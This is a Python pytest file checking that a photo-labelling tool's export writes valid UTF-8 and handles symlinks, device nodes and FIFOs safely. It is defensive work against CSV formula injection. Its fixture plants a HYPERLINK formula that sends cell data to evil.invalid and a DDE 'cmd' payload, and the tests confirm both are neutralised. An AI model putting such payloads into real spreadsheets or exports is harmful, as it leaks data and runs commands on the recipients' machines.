"""Issue 20 items 10-11: `dropsight export` writes valid UTF-8, runs no formulas, and never
replaces what is not a regular file."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from pathlib import Path

import pytest

from dropsight.daemon.outputs import sidecar
from tests.daemon.helpers import dropsight
from tests.daemon.outputs.test_library import labelled_photo

EVIL = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'


@pytest.fixture
def library(tmp_path: Path) -> Path:
    root = tmp_path / "library"
    labelled_photo(root, "dog.jpg", {207: 0.9})
    bad = os.fsdecode(b"caf\xe9.jpg")  # a name that is not UTF-8
    labelled_photo(root, bad, {281: 0.8})
    evil = labelled_photo(root, "evil.jpg", {285: 0.7})
    record = sidecar.read(evil.with_name("evil.jpg.json"))
    assert record is not None
    record["predictions"][0]["name"] = EVIL
    record["model"]["name"] = "+cmd|' /C calc'!A0"
    sidecar.write(evil.with_name("evil.jpg.json"), record)
    return root


def test_csv_cells_never_run_and_names_come_from_our_index(library: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    done = dropsight("export", library, "--output", out)
    assert done.returncode == 0, done.stderr
    table = {Path(r["path"]).name: r for r in csv.DictReader(io.StringIO(out.read_text("utf-8")))}
    evil = table["evil.jpg"]
    assert evil["name1"] == "Egyptian cat"  # class 285, not the file's text
    assert evil["model"] == "'+cmd|' /C calc'!A0"
    for r in table.values():
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values())


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_names_that_are_not_utf8_are_written_as_the_sidecars_write_them(
    library: Path, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / f"out.{fmt}"
    done = dropsight("export", library, "--format", fmt, "--output", out)
    assert done.returncode == 0, done.stderr
    text = out.read_bytes().decode("utf-8")  # valid UTF-8 throughout
    assert "caf\\udce9.jpg" in text
    piped = dropsight("export", library, "--format", fmt)
    assert piped.returncode == 0 and "caf\\udce9.jpg" in piped.stdout
    if fmt == "jsonl":
        paths = [json.loads(line)["path"] for line in text.splitlines()]
        assert os.fsencode(library / os.fsdecode(b"caf\xe9.jpg")) in map(os.fsencode, paths)


def test_search_json_is_valid_utf8(library: Path) -> None:
    assert dropsight("index", "rebuild", library).returncode == 0
    found = dropsight("search", "cat", "--json", "--min-score", "0")
    assert found.returncode == 0, found.stderr
    lines = [json.loads(line) for line in found.stdout.splitlines()]
    assert os.fsencode(library) + b"/caf\xe9.jpg" in [os.fsencode(h["path"]) for h in lines]


def test_output_onto_a_symlink_writes_through(library: Path, tmp_path: Path) -> None:
    real = tmp_path / "real.csv"
    real.write_text("old\n")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    done = dropsight("export", library, "--output", link)
    assert done.returncode == 0, done.stderr
    assert link.is_symlink() and link.readlink() == real
    assert real.read_text("utf-8").startswith("path,status,")


@pytest.mark.skipif(os.geteuid() != 0, reason="making a device node needs root")
def test_output_onto_a_device_node_never_replaces_it(library: Path, tmp_path: Path) -> None:
    null = tmp_path / "null"  # our own /dev/null: a test gone wrong breaks nothing else
    os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    done = dropsight("export", library, "--output", null)
    assert done.returncode == 0, done.stderr
    assert stat.S_ISCHR(null.stat().st_mode)
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    try:
        done = dropsight("export", library, "--output", fifo)
        assert done.returncode == 0, done.stderr
        assert os.read(reader, 1 << 16).startswith(b"path,status,")
    finally:
        os.close(reader)
    assert stat.S_ISFIFO(fifo.stat().st_mode)


def test_a_missing_folder_is_a_clear_error(library: Path, tmp_path: Path) -> None:
    done = dropsight("export", library, "--output", tmp_path / "no" / "such" / "out.csv")
    assert done.returncode == 1
    assert "cannot write" in done.stderr and "Traceback" not in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1
